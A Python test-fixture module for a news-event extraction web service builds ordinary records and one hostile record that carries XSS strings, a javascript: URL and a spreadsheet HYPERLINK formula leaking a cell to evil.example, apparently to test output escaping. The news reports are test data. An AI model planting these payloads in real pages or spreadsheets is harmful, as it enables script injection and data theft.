"""Stores for the serve tests: ordinary reports we wrote, plus one hostile feed item
whose every field carries a payload (script tags, a javascript: URL, a formula)."""

from __future__ import annotations

from fastapi.testclient import TestClient

from sitroom.dedupe import recluster
from sitroom.records import (
    Attribution,
    Event,
    Evidence,
    Fatalities,
    Quote,
    Record,
    Rejection,
    Removed,
    Repairs,
    Source,
)
from sitroom.serve import create_app
from sitroom.store import Store
from tests.test_store import _record

XSS = '<script>alert("x")</script><img src=x onerror=alert(1)>'
FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
HOSTILE_ID = "b" * 64
SECOND_ID = "c" * 64

SECOND_TEXT = (
    "A roadside bomb killed 15 people in a Baghdad market on Sunday, "
    'the interior ministry said. "We will find them," a spokesman said.'
)
HOSTILE_TEXT = f"{XSS} Militants attacked a checkpoint in {XSS} on Friday, killing 3."


def second_record() -> Record:
    """Another outlet's report of the Baghdad bombing: merges with the first record."""
    first_end = SECOND_TEXT.index('"We')
    quote_start = SECOND_TEXT.index("We will")
    return Record(
        id=SECOND_ID,
        source=Source(
            path="/home/analyst/secret/feeds/b.txt",
            format="txt",
            url="https://news.example/baghdad",
            outlet="Example News",
        ),
        title="Baghdad market bombing",
        published="2024-03-11",
        byline=(),
        contributors=(),
        text=SECOND_TEXT,
        removed=(),
        repairs=Repairs(),
        entities=(),
        quotes=(
            Quote(
                text="We will find them,",
                kind="direct",
                speaker="spokesman",
                speaker_mention="a spokesman",
                speaker_role=None,
                anonymous=True,
                cue="said",
                start=quote_start,
                end=quote_start + len("We will find them,"),
            ),
        ),
        attributions=(
            Attribution(
                source="interior ministry",
                source_type="government",
                anonymous=False,
                claim_start=0,
                claim_end=first_end,
            ),
        ),
        events=(
            Event(
                event_type="Explosions/Remote violence",
                sub_event_type="Remote explosive/landmine/IED",
                actor1="Unidentified armed group",
                actor2="Civilians (Iraq)",
                location="Baghdad",
                admin1="Baghdad",
                country="Iraq",
                latitude=33.35,
                longitude=44.41,
                geo_precision=1,
                date_start="2024-03-10",
                date_end="2024-03-10",
                time_precision=1,
                fatalities=Fatalities(low=15, best=15, high=15),
                sources=("interior ministry",),
                certainty="claimed",
                evidence=(Evidence(0, first_end - 1),),
                notes="Roadside bomb in a market.",
            ),
        ),
    )


def hostile_record() -> Record:
    start = HOSTILE_TEXT.index("Militants")
    return Record(
        id=HOSTILE_ID,
        source=Source(
            path=f"/srv/{XSS}.jsonl", format="jsonl", url="javascript:alert(4)", outlet=FORMULA
        ),
        title=XSS,
        published="2023-01-06",
        byline=(XSS,),
        contributors=(),
        text=HOSTILE_TEXT,
        removed=(Removed(kind="promo", text=XSS),),
        repairs=Repairs(),
        entities=(),
        quotes=(
            Quote(
                text=XSS,
                kind="direct",
                speaker=XSS,
                speaker_mention=XSS,
                speaker_role=None,
                anonymous=False,
                cue="said",
                start=0,
                end=len(XSS),
            ),
        ),
        attributions=(),
        events=(
            Event(
                event_type="Battles",
                sub_event_type=XSS,
                actor1=FORMULA,
                actor2=XSS,
                location=XSS,
                admin1=XSS,
                country="Syria",
                latitude=35.0,
                longitude=38.0,
                geo_precision=1,
                date_start="2023-01-06",
                date_end="2023-01-06",
                date_text=XSS,
                fatalities=Fatalities(low=3, best=3, high=3),
                sources=(XSS,),
                evidence=(Evidence(start, len(HOSTILE_TEXT)),),
                notes=XSS,
            ),
        ),
    )


def make_store() -> Store:
    store = Store(":memory:")
    for record in (_record(), second_record(), hostile_record()):
        store.add_record(record)
    store.add_rejection(
        Rejection(path=f"/home/analyst/{XSS}.png", stage="ingest", code="E003", detail=XSS)
    )
    recluster(store)
    return store


def client_for(store: Store) -> TestClient:
    return TestClient(create_app(store), base_url="http://localhost")
